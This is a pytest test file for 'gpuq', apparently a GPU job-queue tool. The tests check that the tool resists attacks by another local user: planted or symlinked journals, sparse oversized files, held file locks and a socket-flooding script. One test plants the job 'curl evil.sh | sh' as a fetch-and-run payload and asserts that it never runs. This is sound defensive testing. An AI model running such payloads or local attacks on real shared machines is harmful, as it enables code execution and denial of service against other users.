# SPDX-License-Identifier: MIT
"""Another user of the same machine changes journals, directories and files around a queue of the victim."""
import contextlib
import json
import os
import pathlib
import signal
import subprocess

import pytest

import processes
import sealing
from users import (  # noqa: F401
    GPUQ, JOURNAL, LIMIT, OPEN, STICKY, WAIT_FOR, job, plant, refused, until, get_other, get_owner, make_machine, needs_users)

pytestmark = needs_users


def has_open(pid, path):
    for entry in pathlib.Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(FileNotFoundError):  # it was closed just now
            if os.readlink(entry) == str(path):
                return True
    return False


# ---- Huge files ---------------------------------------------------------------------------

TERABYTE = 1 << 40


LOOKING = [("status",), ("logs", "1"), ("why", "1"), ("report", "-o", "-"), ("wait", "--jobs-file", "jobs.jsonl", "1"), ("verify",)]


def look_with_little_memory(user, words, place):
    result = user.run("prlimit", f"--as={1 << 30}", "gpuq", *words, cwd=place)
    assert result.returncode not in (0, -9), result
    return result.stderr


@pytest.mark.parametrize("words", LOOKING)
def test_huge_journal_of_another_user_costs_neither_time_nor_memory(machine, owner, other, words):
    shared = machine.directory(STICKY)
    plant(other, shared / "jobs.jsonl", JOURNAL + job("true"))
    os.truncate(shared / "jobs.jsonl", TERABYTE)
    told = look_with_little_memory(owner, words, shared)
    assert f"'{shared}/jobs.jsonl': it belongs to another user and is larger than 256 MiB; set GPUQ_TRUST=1 to read it anyway" in told


@pytest.mark.parametrize("lines", [JOURNAL + job("true"), JOURNAL + job("true", 2) + job("true", 1)], ids=["ordered", "out of order"])
@pytest.mark.parametrize("words", LOOKING)
def test_journal_of_holes_costs_neither_time_nor_memory(machine, owner, other, words, lines):
    """Lines and file are within the limits; another user wrote them into a file of the victim."""
    shared = machine.directory(STICKY)
    plant(owner, shared / "jobs.jsonl", lines, 0o644)
    with open(shared / "jobs.jsonl", "r+b") as file:
        for megabytes in range(60, 64 << 10, 60):
            file.seek(megabytes << 20)
            file.write(b"\n")
    told = look_with_little_memory(owner, words, shared)
    assert f"'{shared}/jobs.jsonl': it has more than 64 MiB of holes: the file is damaged; move it away" in told


def test_history_of_a_launch_of_another_user_costs_neither_time_nor_memory(machine, owner, other):
    """Its lines are within the limit."""
    shared = machine.directory(STICKY)
    other.sh("mkdir out; chmod 755 out", shared)
    plant(other, shared / "out/launch.jsonl", "{}\n")
    with open(shared / "out/launch.jsonl", "r+b") as file:
        for megabytes in range(15, 200, 15):
            file.seek(megabytes << 20)
            file.write(b"\n")
    report = ("report", "--launch", "out", "-o", "-")
    assert "more than 64 MiB of holes" in look_with_little_memory(owner, report, shared)
    plant(other, shared / "out/launch.jsonl", "{}\n")
    other.sh("fallocate -l 257M out/launch.jsonl", shared)
    assert "larger than 256 MiB; set GPUQ_TRUST=1" in look_with_little_memory(owner, report, shared)


def test_huge_counts_of_another_user_cost_no_memory(machine, owner, other):
    """If records are missing, the number of records of each job is read."""
    shared = machine.directory(STICKY)
    plant(other, shared / "jobs.jsonl", JOURNAL + job("true", 2))
    folder = shared / "jobs.jsonl.d"
    folder.mkdir(mode=0o755)
    os.chown(folder, other.uid, other.gid)
    plant(other, folder / "counts", "")
    os.truncate(folder / "counts", 4 << 30)
    result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", "status", cwd=shared)
    assert "out of memory" not in result.stderr.lower() and "Cannot allocate" not in result.stderr, result
    assert result.returncode in (0, 1), result


HOLD_LOCK = """
import fcntl, sys
file = open(sys.argv[1], "r+")
fcntl.lockf(file, fcntl.LOCK_EX)
print("locked", flush=True)
sys.stdin.read()
"""


@pytest.mark.parametrize("words", [("status",), ("verify",), ("wait", "2")])
def test_lock_of_another_user_does_not_hang_readers(machine, owner, other, words):
    """If records are missing, readers take the append lock, but not in a planted folder."""
    shared = machine.directory(STICKY)
    plant(other, shared / "jobs.jsonl", JOURNAL + job("true", 2))
    folder = shared / "jobs.jsonl.d"
    folder.mkdir()
    os.chown(folder, other.uid, other.gid)
    folder.chmod(0o777)
    plant(other, folder / "append.lock", "nothing", 0o666)
    assert other.attack(HOLD_LOCK, folder / "append.lock") == "locked"
    assert owner.gpuq(*words, cwd=shared).returncode in (0, 1, 2, 125)


def test_sparse_files_of_the_user_are_reported_and_kept(machine, owner):
    """As left by a crash of the file system."""
    owner.sh("rm -rf huge; mkdir -p huge/in huge/out; echo 1 > huge/in/a", owner.home)
    place = owner.home / "huge"
    plant(owner, place / "jobs.jsonl", JOURNAL + job("true"), 0o600)
    plant(owner, place / "out/launch.jsonl", "{}\n", 0o600)
    plant(owner, place / "commands.txt", "true\n", 0o600)
    names = {"jobs.jsonl": ("add", "true"), "commands.txt": ("run", "--jobs-file", "other.jsonl"),
             "out/launch.jsonl": ("launch", "--input-dir", "in", "--output-dir", "out", "--pattern", "*", "--gpus", "sim:1", "--", "true")}
    for name, words in names.items():
        os.truncate(place / name, TERABYTE)
        result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", *words, cwd=place)
        assert result.returncode in (1, 2), result
        assert f"{name}': " in result.stderr and ("damaged" in result.stderr or "File too large" in result.stderr), result
        assert (place / name).stat().st_size == TERABYTE
    result = owner.gpuq("report", "--launch", "out", "-o", "-", cwd=place)
    assert result.returncode == 1 and "a line is longer than 16 MiB, or the file has more than 64 MiB of holes: it is damaged; move it away" in result.stderr, result


# ---- A journal of another user ------------------------------------------------------------


def copied(command):
    """A journal that the owner got from another user, as a data set or in a clone."""
    return JOURNAL + job(command)


def start_runner(machine, owner):
    """A runner that has run a job, in a directory that its owner opens to the group afterwards."""
    shared = machine.project(owner)
    runner = owner.start("gpuq", "run", "--keep", cwd=shared)
    assert owner.gpuq("add", "--no-start", "touch first", cwd=shared).returncode == 0
    until((shared / "first").exists, "the first job")
    owner.sh(OPEN, shared)
    return shared, runner


def test_journal_that_another_user_puts_in_place_is_not_executed(machine, owner, other):
    """A member of the group replaces the journal after the runner has checked it."""
    shared, runner = start_runner(machine, owner)
    plant(other, shared / "jobs.jsonl", copied("touch stolen"), 0o666)
    until(lambda: runner.poll() is not None or (shared / "stolen").exists(), "the runner")
    assert not (shared / "stolen").exists()
    assert runner.wait(LIMIT) == 2
    assert f"'{shared}/jobs.jsonl': it belongs to another user" in runner.stderr.read()


def test_file_of_the_owner_that_another_user_renames_is_not_executed(machine, owner, other):
    shared, runner = start_runner(machine, owner)
    plant(owner, shared / "data.jsonl", copied("touch stolen"))
    other.sh("mv data.jsonl jobs.jsonl", shared)
    until(lambda: runner.poll() is not None or (shared / "stolen").exists(), "the runner")
    assert not (shared / "stolen").exists()
    assert runner.wait(LIMIT) == 2
    assert f"'{shared}/jobs.jsonl': directory '{shared}' can be written by group '{machine.group}'" in runner.stderr.read()


def test_keeper_writes_the_end_only_into_a_journal_of_its_user(machine, owner, other):
    """The journal is replaced while a job runs: its end waits until the owner has put the right file back."""
    shared = machine.project(owner)
    owner.sh("mkfifo go", shared)
    owner.start("gpuq", "run", "--keep", cwd=shared)
    assert owner.gpuq("add", "touch began; cat go", cwd=shared).returncode == 0
    until((shared / "began").exists, "the job")
    owner.sh(OPEN, shared)
    journal = shared / "jobs.jsonl"
    other.sh("mv jobs.jsonl kept", shared)
    planted = JOURNAL + job("true")
    plant(other, journal, planted, 0o666)
    keeper = [e["pid"] for e in map(json.loads, (shared / "kept").read_text().splitlines()) if e["event"] == "keeper"][0]
    naps = processes.naps(keeper)
    owner.sh("echo > go", shared)
    until(lambda: processes.naps(keeper) > naps + 3, "retries of the keeper")
    assert journal.read_text() == planted
    owner.sh("mv -f kept jobs.jsonl", shared)
    until(lambda: '"event":"end"' in journal.read_text(), "the end")
    until(lambda: not processes.alive(keeper), "the keeper")


@pytest.mark.parametrize("words", [("add", "--no-start", "true"), ("cancel", "1"), ("prune",), ("run",)])
def test_journal_of_another_user_is_not_changed(machine, owner, other, words):
    shared = machine.directory(STICKY)
    planted = JOURNAL + job("touch stolen") + '{"torn'
    plant(other, shared / "jobs.jsonl", planted, 0o666)
    refused(owner.gpuq(*words, cwd=shared), f"directory '{shared}' can be written by everybody")
    assert (shared / "jobs.jsonl").read_text() == planted
    assert sorted(p.name for p in shared.iterdir()) == ["jobs.jsonl"]
    assert owner.gpuq("status", cwd=shared).returncode == 0  # reading needs no trust
    assert owner.gpuq(words[0], "--trust", *words[1:], cwd=shared).returncode == 0


def test_variable_allows_what_the_option_allows(machine, owner, other):
    shared = machine.directory(STICKY)
    plant(other, shared / "jobs.jsonl", JOURNAL + job("touch ran"), 0o666)
    for value in ("", "0"):
        refused(owner.gpuq("run", cwd=shared, env={"GPUQ_TRUST": value}), f"directory '{shared}' can be written by everybody")
    assert owner.gpuq("run", cwd=shared, env={"GPUQ_TRUST": "1"}).returncode == 0
    assert (shared / "ran").exists()


def test_journal_that_the_private_group_can_write_is_used(machine, owner):
    """As created with a umask of 002."""
    shared = machine.project(owner)
    assert owner.gpuq("add", "--no-start", "touch ran", cwd=shared).returncode == 0
    journal = shared / "jobs.jsonl"
    os.chown(journal, owner.uid, owner.gid)
    journal.chmod(0o660)
    assert owner.gpuq("run", cwd=shared).returncode == 0
    assert (shared / "ran").exists()
    os.chown(journal, owner.uid, shared.stat().st_gid)
    refused(owner.gpuq("run", cwd=shared), "can be written by its group")


# ---- The socket of a keeper ---------------------------------------------------------------

# Keeps the backlog full.
CROWD = """
import socket, sys, threading
def visit():
    while True:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect("\\0" + sys.argv[1])
for i in range(64):
    threading.Thread(target=visit).start()
s = socket.socket(socket.AF_UNIX)
s.setblocking(False)
while True:
    try:
        s.connect("\\0" + sys.argv[1])
        s = socket.socket(socket.AF_UNIX)
        s.setblocking(False)
    except BlockingIOError:
        break
print("full", flush=True)
"""


def test_job_without_runner_is_cancelled_while_others_crowd_its_keeper(machine, owner, other):
    owner.sh("rm -rf crowd; mkdir crowd", owner.home)
    place = owner.home / "crowd"
    assert owner.gpuq("add", "--no-start", "touch began; sleep 1000", cwd=place).returncode == 0
    runner = owner.start("gpuq", "run", cwd=place)
    until((place / "began").exists, "the job")
    runner.kill()
    runner.wait(LIMIT)
    journal = place / "jobs.jsonl"
    keeper = [e for e in map(json.loads, journal.read_text().splitlines()) if e["event"] == "keeper"][0]
    address = (place / "jobs.jsonl.d/keepers" / keeper["keeper"]).read_text().split()[1]
    os.kill(keeper["pid"], signal.SIGSTOP)
    try:
        assert other.attack(CROWD, address) == "full"
        told = owner.gpuq("cancel", "1", cwd=place)
        assert told.returncode == 1 and "cannot cancel job 1: its keeper does not answer" in told.stderr, told
        assert '"event":"end"' not in journal.read_text()
    finally:
        os.kill(keeper["pid"], signal.SIGCONT)
    told = owner.gpuq("cancel", "1", cwd=place)
    assert (told.returncode, told.stderr) == (0, "")
    until(lambda: '"event":"end"' in journal.read_text(), "the end of the job")
    processes.end_started(other.started)


# ---- Directories of a path ----------------------------------------------------------------


def test_runner_stays_with_its_directory(machine, owner):
    """Its user renames the directory, and replaces it with a link to another queue."""
    shared = machine.project(owner)
    owner.sh(f"mkdir proj; mkdir -p '{owner.home}/private'", shared)
    private = owner.home / "private/jobs.jsonl"
    assert owner.gpuq("add", "--no-start", "--jobs-file", private, "touch stolen", cwd=owner.home / "private").returncode == 0
    before = private.read_text()
    runner = owner.start("gpuq", "run", "--keep", "--log-dir", owner.home / "kept_logs", cwd=shared / "proj")
    assert owner.gpuq("add", "--no-start", "touch first", cwd=shared / "proj").returncode == 0
    until(lambda: '"event":"end"' in (shared / "proj/jobs.jsonl").read_text(), "the end of the first job")
    owner.sh(f"mv proj kept; ln -s '{owner.home}/private' proj", shared)
    assert owner.gpuq("add", "--no-start", "touch second", cwd=shared / "kept").returncode == 0
    until((shared / "kept/second").exists, "the second job")
    assert private.read_text() == before
    assert not (owner.home / "private/logs").exists()
    assert not (owner.home / "private/stolen").exists()
    runner.terminate()
    assert f"the queue is now '{shared}/kept/jobs.jsonl'" in runner.communicate(timeout=LIMIT)[1]
    owner.sh("rm proj", shared)


@pytest.mark.parametrize("plan", ["ln -s kept proj", "ln -s /var/tmp proj", "ln -s proj proj", "mkdir -p -m 700 proj", "touch proj"])
def test_queue_goes_on_although_another_user_uses_its_old_name(machine, owner, other, plan):
    """The victim renames the directory in a sticky one, in which everybody can use the old name."""
    shared = machine.directory(STICKY)
    owner.sh("mkdir -m 755 proj proj/sub", shared)
    go = owner.home / f"go-{shared.name}"
    runner = owner.start("gpuq", "run", "--keep", "--jobs-file", "jobs.jsonl", cwd=shared / "proj/sub")
    for words in ((f"touch began; {WAIT_FOR.format(go)}",), ("--after", "1", "touch second")):
        assert owner.gpuq("add", "--no-start", "--jobs-file", "jobs.jsonl", *words, cwd=shared / "proj/sub").returncode == 0
    until((shared / "proj/sub/began").exists, "the job")
    owner.sh("mv proj kept", shared)
    other.sh(plan, shared)
    go.touch()
    until((shared / "kept/sub/second").exists, "the second job")
    runner.terminate()
    assert f"the queue is now '{shared}/kept/sub/jobs.jsonl'" in runner.communicate(timeout=LIMIT)[1]


@pytest.mark.parametrize("words", [("add", "--no-start", "true"), ("run", "--keep"), ("prune",)])
def test_link_of_another_user_to_a_directory_leads_to_no_queue(machine, owner, other, words):
    shared = machine.directory(STICKY)
    owner.sh("rm -rf docs; mkdir docs", owner.home)
    other.sh(f"ln -s '{owner.home}/docs' dir", shared)
    result = owner.gpuq(words[0], "--jobs-file", shared / "dir/jobs.jsonl", *words[1:], cwd=owner.home)
    assert result.returncode == 2, result
    assert f"'{shared}/dir/jobs.jsonl': it has a symbolic link of another user in its path" in result.stderr
    assert list((owner.home / "docs").iterdir()) == []
    # The victim's own links are followed.
    owner.sh(f"ln -s '{owner.home}/docs' own", shared)
    if words[0] != "run":
        assert owner.gpuq(words[0], "--jobs-file", shared / "own/jobs.jsonl", *words[1:], cwd=owner.home).returncode == 0


def test_link_of_another_user_to_a_directory_leads_to_no_report(machine, owner, other):
    shared = machine.directory(STICKY)
    owner.sh("rm -rf docs; mkdir docs; echo precious > docs/report.html; echo precious > docs/linked; ln -s linked docs/link.html",
             owner.home)
    assert owner.gpuq("add", "--no-start", "true", cwd=owner.home).returncode == 0
    other.sh(f"ln -s '{owner.home}/docs' dir", shared)
    for name in ("report.html", "link.html"):
        result = owner.gpuq("report", "-o", shared / "dir" / name, cwd=owner.home)
        assert result.returncode == 2 and f"'{shared}/dir' is a symbolic link of another user" in result.stderr, result
        assert (owner.home / "docs" / name).read_text() == "precious\n"
    for place, code in ((shared, 2), (owner.home, 0)):  # others may have moved the first link there
        owner.sh(f"ln -s '{owner.home}/docs' own", place)
        assert owner.gpuq("report", "-o", place / "own/report.html", cwd=owner.home).returncode == code
        assert ("</html>" in (owner.home / "docs/report.html").read_text()) == (code == 0)


@pytest.mark.parametrize("words", [("report",), ("status",), ("info", "1"), ("logs", "1"), ("why", "1"), ("wait", "1"), ("verify",)])
@pytest.mark.parametrize("kind", ["file", "directory"])
def test_link_of_another_user_to_a_journal_is_not_read(machine, owner, other, words, kind):
    """Otherwise a report would publish a private journal in a directory that the attacker chose."""
    shared = machine.directory(STICKY)
    owner.sh("rm -rf private; mkdir -m 700 private", owner.home)
    private = owner.home / "private"
    assert owner.gpuq("add", "--no-start", "echo password", cwd=private).returncode == 0
    other.sh(f"ln -s '{private}/jobs.jsonl' jobs.jsonl" if kind == "file" else f"ln -s '{private}' dir", shared)
    journal = "jobs.jsonl" if kind == "file" else "dir/jobs.jsonl"
    for env, named in (({"GPUQ_JOBS_FILE": journal}, ()), ({}, ("--jobs-file", journal))):
        result = owner.gpuq(words[0], *named, *words[1:], cwd=shared, env=env)
        assert result.returncode == (125 if words[0] == "wait" else 2), result
        assert "a symbolic link of another user" in result.stderr and "--trust" in result.stderr, result
        assert "password" not in result.stdout
        assert not (shared / "report.html").exists()
    if words[0] == "report":
        assert owner.gpuq("report", "--trust", "--jobs-file", journal, "-o", "-", cwd=shared).returncode == 0
        assert owner.gpuq("report", "--jobs-file", journal, "-o", "-", cwd=shared, env={"GPUQ_TRUST": "1"}).returncode == 0


def test_link_of_another_user_to_a_folder_of_samples_is_not_read(machine, owner, other):
    shared = machine.directory(STICKY)
    owner.sh("rm -rf private; mkdir -m 700 private", owner.home)
    sample = {"time": 1794778939599, "gpus": [{"gpu": 7, "mem_used_mb": 4321, "mem_total_mb": 87654, "util": 5}]}
    plant(owner, owner.home / "private/samples.jsonl", json.dumps(sample) + "\n", 0o600)
    plant(owner, shared / "jobs.jsonl", JOURNAL + job("true"))
    other.sh(f"ln -s '{owner.home}/private' jobs.jsonl.d", shared)
    result = owner.gpuq("report", "-o", "-", cwd=shared)
    assert result.returncode == 0 and "GPU 7" not in result.stdout, result


def test_wait_does_not_read_a_journal_before_it_refuses_it(machine, owner, other):
    """A journal of another user that is also too large is refused because of its owner, not its size."""
    shared = machine.directory(STICKY)
    plant(other, shared / "jobs.jsonl", JOURNAL + job("true"))
    os.truncate(shared / "jobs.jsonl", TERABYTE)
    result = owner.gpuq("wait", "1", cwd=shared)
    assert result.returncode == 125 and "it belongs to another user, so other users could" in result.stderr, result


def test_directory_that_becomes_a_link_of_another_user_is_not_listed(machine, owner, other):
    """The list of queues contains the path from before the directory was replaced by a link."""
    shared = machine.directory(0o777)
    owner.sh(f"rm -rf private; mkdir -m 700 private; mkdir -m 755 '{shared}/dir'", owner.home)
    for place in (owner.home / "private", shared / "dir"):
        assert owner.gpuq("add", "--trust", "--no-start", f"echo {place.name}", cwd=place).returncode == 0
    assert "echo dir" in owner.gpuq("status", "--all", cwd="/").stdout
    other.sh(f"mv dir kept; ln -s '{owner.home}/private' dir", shared)
    assert owner.gpuq("status", "--all", cwd="/").stdout.count("echo private") == 1


def test_wait_trusts_no_journal_that_another_user_puts_in_place(machine, owner, other):
    """For a moment, the job appears completed in another journal."""
    shared = machine.project(owner)
    owner.sh("mkfifo go", shared)
    owner.start("gpuq", "run", "--keep", cwd=shared)
    assert owner.gpuq("add", "--no-start", "touch began; cat go; exit 7", cwd=shared).returncode == 0
    until((shared / "began").exists, "the job")
    waiting = owner.start("gpuq", "wait", "1", cwd=shared)
    until(lambda: waiting.poll() is not None or has_open(waiting.pid, shared / "jobs.jsonl"), "gpuq wait, which reads the journal")
    owner.sh(OPEN, shared)
    end = {"event": "end", "id": 1, "attempt": 1, "status": "completed", "exit_code": 0}
    (shared / "evil").write_bytes((shared / "jobs.jsonl").read_bytes())
    sealing.append(shared / "evil", end)
    os.chown(shared / "evil", other.uid, other.gid)
    (shared / "evil").chmod(0o644)
    other.sh("mv jobs.jsonl real; mv evil jobs.jsonl", shared)
    code = waiting.wait(LIMIT)
    begun_later = owner.gpuq("wait", "1", cwd=shared)
    assert begun_later.returncode == 125 and "belongs to another user" in begun_later.stderr, begun_later
    other.sh("mv real jobs.jsonl", shared)
    assert code == 125 and "belongs to another user" in waiting.stderr.read()


# ---- A hook -------------------------------------------------------------------------------


def test_hook_gets_nothing_of_a_journal_that_another_user_puts_in_place(machine, owner, other):
    """The journal is there while the job ends, and removed afterwards."""
    shared = machine.project(owner)
    owner.sh("rm -f hook.json", owner.home)
    runner = owner.start("gpuq", "run", "--keep", "--on-finish", f"cat > '{owner.home}/draft'; mv '{owner.home}/draft' '{owner.home}/hook.json'",
                         cwd=shared)
    assert owner.gpuq("add", "--no-start", f"echo $$ > pid; {WAIT_FOR.format('go')}", cwd=shared).returncode == 0
    pid = int(until(lambda: (shared / "pid").exists() and (shared / "pid").read_text(), "the job"))
    keeper = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    owner.sh(OPEN, shared)
    other.sh("mv jobs.jsonl real", shared)
    plant(other, shared / "jobs.jsonl", JOURNAL + job("curl evil.sh | sh"), 0o666)
    owner.sh("touch go", shared)
    until(lambda: not pathlib.Path(f"/proc/{pid}").exists(), "the end of the job")
    naps = processes.naps(keeper)
    until(lambda: processes.naps(keeper) > naps + 2 or (owner.home / "hook.json").exists(), "an attempt to write the end")
    other.sh("rm -f jobs.jsonl; mv real jobs.jsonl", shared)
    until((owner.home / "hook.json").exists, "the hook")
    told = json.loads((owner.home / "hook.json").read_text())
    assert told["command"].startswith("echo $$ > pid") and told["status"] == "completed", told
    assert runner.wait(LIMIT) == 2  # it has seen the other journal


# ---- Groups -------------------------------------------------------------------------------


def test_account_with_the_primary_group_of_the_victim_is_another_user(machine, owner, other):
    shared = machine.directory(0o755)
    os.chown(shared, owner.uid, owner.gid)
    owner.sh("umask 002; echo 'touch ran' > commands.txt", shared)
    subprocess.run(["usermod", "-g", str(owner.gid), other.name], check=True)
    try:
        result = owner.gpuq("run", cwd=shared)
    finally:
        subprocess.run(["usermod", "-g", str(other.gid), other.name], check=True)
    assert result.returncode == 2 and "'commands.txt': it can be written by its group" in result.stderr, result
    assert not (shared / "ran").exists()
    assert owner.gpuq("run", cwd=shared).returncode == 0
    assert (shared / "ran").exists()


def test_list_of_queues_that_another_user_made_is_not_used(machine, owner, other):
    """While the parent directory was writable for others."""
    state = machine.project(owner)
    environment = {"XDG_STATE_HOME": str(state)}
    place = machine.project(owner)
    assert owner.gpuq("add", "--no-start", "true", cwd=place, env=environment).returncode == 0
    assert "jobs.jsonl" in owner.gpuq("queues", cwd=place, env=environment).stdout
    owner.sh("chmod 755 gpuq; chmod 777 gpuq/*; chmod 755 gpuq/*/queues", state)
    other.sh("cd gpuq/*; mv queues old; mkdir queues; cp -P old/* queues", state)
    owner.sh("chmod 700 gpuq/*", state)
    result = owner.gpuq("queues", cwd=place, env=environment)
    assert result.returncode != 0 and "belongs to another user" in result.stderr and not result.stdout, result
    assert owner.gpuq("add", "--no-start", "true", cwd=place, env=environment).returncode == 0


# ---- Parts of the queue's folder ----------------------------------------------------------


@pytest.fixture(name="scripted")
def make_scripted(machine, owner):
    """A queue with a waiting job that has a stored script."""
    shared = machine.project(owner)
    plant(owner, shared / "run.sh", "#!/bin/sh\necho ran\n", mode=0o755)
    assert owner.gpuq("add", "--no-start", "./run.sh", cwd=shared).returncode == 0
    return shared


@pytest.mark.parametrize("folder, words", [("scripts", "its stored script"), ("env", "its environment")])
def test_stored_file_of_another_user_is_not_used(owner, other, scripted, folder, words):
    """Another user was able to write to the folder in the past."""
    stored, = (scripted / "jobs.jsonl.d" / folder).iterdir()
    os.chown(stored, other.uid, other.gid)
    stored.chmod(0o644)
    result = owner.gpuq("run", cwd=scripted)
    assert result.returncode == 1, result
    assert f"other users may have written {words} '{stored}'; add the job again" in owner.gpuq("status", "--json", cwd=scripted).stdout


def test_folder_of_scripts_that_others_can_write_is_refused(owner, other, scripted):
    (scripted / "jobs.jsonl.d/scripts").chmod(0o777)
    result = owner.gpuq("run", cwd=scripted)
    assert result.returncode == 2 and "jobs.jsonl.d/scripts': it can be written by everybody" in result.stderr, result


@pytest.mark.parametrize("name", ["append.lock", "runner.lock", "runner.log", "hooks.log", "keepers/k1"])
def test_file_of_another_user_in_the_folder_is_refused(owner, other, scripted, name):
    """A lock would stop the queue, and a log would disclose what it contains."""
    path = scripted / "jobs.jsonl.d" / name
    path.touch()
    os.chown(path, other.uid, other.gid)
    path.chmod(0o666)
    result = owner.gpuq("add", "--no-start", "true", cwd=scripted)
    assert result.returncode == 2 and f"{name}': it belongs to another user" in result.stderr, result


WRITE_LOCK = """
import fcntl, signal, sys
file = open(sys.argv[1], "r+")
fcntl.lockf(file, fcntl.LOCK_EX)
print("locked", flush=True)
signal.pause()
"""


@pytest.mark.parametrize("name", ["append.lock", "runner.lock"])
def test_write_lock_of_another_user_who_opened_the_file_before_is_reported(owner, other, scripted, name):
    path = scripted / "jobs.jsonl.d" / name
    if not path.exists():
        plant(owner, path, "", 0o600)
    (scripted / "jobs.jsonl.d").chmod(0o755)
    path.chmod(0o666)
    assert other.attack(WRITE_LOCK, path) == "locked"
    path.chmod(0o600)
    (scripted / "jobs.jsonl.d").chmod(0o700)
    result = owner.gpuq("run", cwd=scripted)
    assert result.returncode == 1 and f"of user '{other.name}' has a lock on" in result.stderr and name in result.stderr, result
    assert "no runner is active" in owner.gpuq("status", cwd=scripted).stdout


def test_stored_environments_become_private_again(owner, other, scripted):
    """They contain secrets, and the user has made the whole project readable."""
    owner.sh("chmod -R a+rX .", scripted)
    assert owner.gpuq("add", "--no-start", "true", cwd=scripted).returncode == 0
    assert other.run("sh", "-c", "cat jobs.jsonl.d/env/* jobs.jsonl.d/scripts/*", cwd=scripted).stdout == ""
